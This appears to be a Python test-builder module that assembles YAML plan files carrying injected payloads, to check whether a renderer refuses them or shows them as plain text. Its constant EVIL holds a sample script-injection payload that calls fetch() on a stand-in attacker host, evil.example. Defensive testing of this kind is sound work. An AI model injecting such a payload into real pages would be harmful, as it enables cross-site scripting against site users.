"""How a hostile file is written down: what is in it, and what becomes of it."""

import json
from dataclasses import dataclass

from tests.builders import TASK, TEXT, task_text, template_text

EVIL = "fetch('https://evil.example/'+(window.pwned=1))"
"""What a payload runs: it leaves a mark in the page and asks a foreign host."""

_FILLER = (
    "Words that only make this text as long as the format wants it, and do no harm to anybody."
)
_TOO_SHORT = {"summary", "why"}
_IN_LIST = {"best_for", "benefits", "authors", "tags", "subtasks", "after", "related", "next"}
_TASK_KEYS = {*TASK, "id", "details", "subtasks", "sign_off", "after", "role", "duration"}


@dataclass(frozen=True)
class Case:
    """A file. Refused: `place` is the problem's line, or line and column, `reason` words of it.

    Shown: `texts` stand on the page, as they are.
    """

    name: str
    data: bytes
    place: str = ""
    reason: str = ""
    texts: tuple[str, ...] = ()


class Raw(str):
    """YAML that is written as it is, and not as a text in quotes."""

    __slots__ = ()


def refused(name: str, file: str | bytes, place: str | int, reason: str) -> Case:
    """Return a file with a problem at `place` that says `reason`."""
    data = file if isinstance(file, bytes) else file.encode("utf-8", "surrogatepass")
    return Case(name, data, str(place), reason)


def shown(name: str, *texts: str, **payloads: str) -> Case:
    """Return an accepted file; without `texts` its payloads themselves are shown."""
    title = payloads.pop("title", f"Plan {name}")
    data = template(title=title, **payloads).encode()
    return Case(name, data, texts=texts or (title, *payloads.values()))


def shown_in_tasks(
    name: str, *tasks: dict[str, str], texts: tuple[str, ...] = (), **payloads: str
) -> Case:
    """Return an accepted file of many tasks with payloads; without `texts` these are shown."""
    written = [
        task_text(f"Task {number}", **{key: _yaml(text) for key, text in task.items()})
        for number, task in enumerate(tasks, 1)
    ]
    data = template_text(*written, title=f"Plan {name}", **payloads).encode()
    return Case(name, data, texts=texts or tuple(text for task in tasks for text in task.values()))


def template(**payloads: str) -> str:
    """Return a template with a payload in each of these places.

    The places are keys of a template or of its first task; `task_title` is the task's, `question`
    and `answer` those of the first question, `source` and `url` those of a source.
    """
    changes: dict[str, str] = {}
    task = {"title": "Begin"}
    question, answer = payloads.pop("question", "Why?"), payloads.pop("answer", "So.")
    changes["faq"] = (
        f"[{{question: {_yaml(question)}, answer: {_yaml(answer)}}}, {{question: B?, answer: B.}}]"
    )
    if "source" in payloads or "url" in payloads:
        source, url = payloads.pop("source", "Rule"), payloads.pop("url", "https://example.org/")
        changes["sources"] = f"[{{title: {_yaml(source)}, url: {_yaml(url)}}}]"
    if "anchor_label" in payloads:
        changes["anchor"] = "event"
    for place, payload in payloads.items():
        value = _yaml(payload)
        if place in _IN_LIST and not isinstance(payload, Raw):
            value = f"[{value}, other]" if place in {"best_for", "benefits"} else f"[{value}]"
        elif place in _TOO_SHORT and not isinstance(payload, Raw):
            blank = "\n\n" if place == "why" else " "
            value = _yaml(f"{payload}{blank}{_FILLER}")
        if place == "task_title":
            task["title"] = value
        elif place in _TASK_KEYS:
            task[place] = value
        else:
            assert place in {*TEXT, "anchor_label", "authors", "caution", "tags", "related", "next"}
            changes[place] = value
    title = task.pop("title")
    return template_text(task_text(title, **task), task_text("Go on"), task_text("End"), **changes)


def _yaml(text: str) -> str:
    # JSON's strings are YAML's, in double quotes.
    return text if isinstance(text, Raw) else json.dumps(text, ensure_ascii=False)
